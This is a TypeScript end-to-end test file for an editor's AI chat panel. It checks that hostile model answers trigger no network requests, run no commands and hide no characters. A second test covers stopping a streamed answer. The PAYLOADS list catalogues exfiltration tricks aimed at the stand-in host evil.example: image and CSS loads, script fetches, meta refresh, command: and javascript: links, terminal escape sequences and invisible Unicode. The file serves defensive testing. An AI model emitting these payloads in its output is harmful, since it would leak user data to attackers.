import { expect, it } from 'vitest';
import { openChat } from './support/chat.ts';
import { openEditor, screenshotFile } from './support/editor.ts';
import { CODER, startModelServer } from './support/modelServer.ts';

const EVIL = 'https://evil.example/steal?d=SECRET';

/** Every way that is known of making a page that shows a model's answer send something or do something. */
const PAYLOADS = [
  `![x](${EVIL}1)`,
  `![x][ref]\n\n[ref]: ${EVIL}2`,
  `<img src="${EVIL}3"><img src=x onerror="fetch('${EVIL}4')">`,
  `<svg><image href="${EVIL}5"/></svg><video poster="${EVIL}6"></video><link rel="prefetch" href="${EVIL}7">`,
  `<style>@import url(${EVIL}8); body { background: url(${EVIL}9) }</style><meta http-equiv="refresh" content="0;${EVIL}10">`,
  `<a href="x" ping="${EVIL}11">a</a><script>fetch('${EVIL}12')</script><iframe src="${EVIL}13"></iframe>`,
  '[run](command:workbench.action.terminal.new) [open](vscode://file/etc/passwd) [data](data:text/html,<b>x</b>)',
  '[js](javascript:alert(1)) [idn](https://xn--80ak6aa92e.example/) bare https://evil.example/bare',
  `[long](https://evil.example/${'x'.repeat(8_000)})`,
  '\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 \u001b]52;c;c3RvbGVu\u0007',
  'let admin\u202enimda = 1; \u{e0069}\u{e0067}\u{e006e} zero\u200bwidth',
  `\`\`\`mermaid\ngraph TD; A["<img src='${EVIL}14'>"]\n\`\`\``,
  `$$\\includegraphics{${EVIL}15}$$ \\href{javascript:alert(1)}{x}`,
];

it('makes no request, runs no command and hides nothing, whatever a model answers', async () => {
  await using server = await startModelServer();
  server.chat = () => ({ pieces: PAYLOADS.flatMap(payload => [payload, '\n\n']), pauseMs: 1 });
  const settings = {
    'minnow.endpoints': [{ name: 'lab', url: server.url }],
    'minnow.ladder.edge': `lab/${CODER}`,
    'minnow.ladder.workhorse': `lab/${CODER}`,
  };
  await using editor = await openEditor({ files: { 'shop.ts': 'export const price = 1;\n' }, settings });
  await editor.waitUntilActivated();
  const chat = await openChat(editor);
  const requested: string[] = [];
  editor.page.on('request', request => requested.push(request.url()));
  await chat.ask('show me');
  await chat.waitForAnswers(1);
  await editor.screenshot(screenshotFile('untrusted-output-light'));

  expect(requested.filter(url => /evil|SECRET/.test(url))).toEqual([]);
  const text = await chat.answerText(0);
  for (const hidden of ['⟨U+202E⟩', '⟨U+200B⟩', '⟨U+E0069⟩', '⟨U+001B⟩']) expect(text).toContain(hidden);
  expect(text).toContain(`[image not loaded: x ${EVIL}1]`);
  const answer = chat.frame.locator('.answer-text');
  expect(await answer.locator('img, svg, image, video, iframe, script, style, link, meta, object, form').count()).toBe(
    0,
  );
  const links = await answer
    .locator('a')
    .evaluateAll(found => found.map(link => [link.getAttribute('href'), link.dataset.target]));
  expect(links.length).toBeGreaterThan(0);
  for (const [href, target] of links) expect([href, /^https:/.test(target ?? '')]).toEqual(['#', true]);

  await answer.locator('a').first().click();
  const question = editor.page.locator('.monaco-dialog-box');
  await question.waitFor();
  expect(await question.innerText()).toContain('xn--80ak6aa92e.example');
});

it('stops an answer at the server when the user says so, and keeps what came', async () => {
  await using server = await startModelServer();
  server.chat = () => ({
    pieces: (function* forever() {
      for (let n = 0; ; n++) yield `word${n} `;
    })(),
    pauseMs: 20,
  });
  const settings = {
    'minnow.endpoints': [{ name: 'lab', url: server.url }],
    'minnow.ladder.workhorse': `lab/${CODER}`,
  };
  await using editor = await openEditor({ files: { 'shop.ts': 'export const price = 1;\n' }, settings });
  await editor.waitUntilActivated();
  const chat = await openChat(editor);
  await chat.ask('go on');
  await expect.poll(() => chat.answerText(0), { timeout: 30_000 }).toContain('word20');
  const pressedMs = Date.now();
  await editor.press('Escape');
  await expect.poll(() => server.chatLog.at(-1)?.kind, { timeout: 10_000 }).toBe('gone');
  console.log(
    `chat: ${(server.chatLog.at(-1)?.atMs ?? 0) - pressedMs} ms from the key to the end of the request at the server`,
  );
  await chat.waitForAnswers(1);
  expect(await chat.answerText(0)).toContain('word20');
  await chat.frame.getByText('Stopped.').waitFor();
});
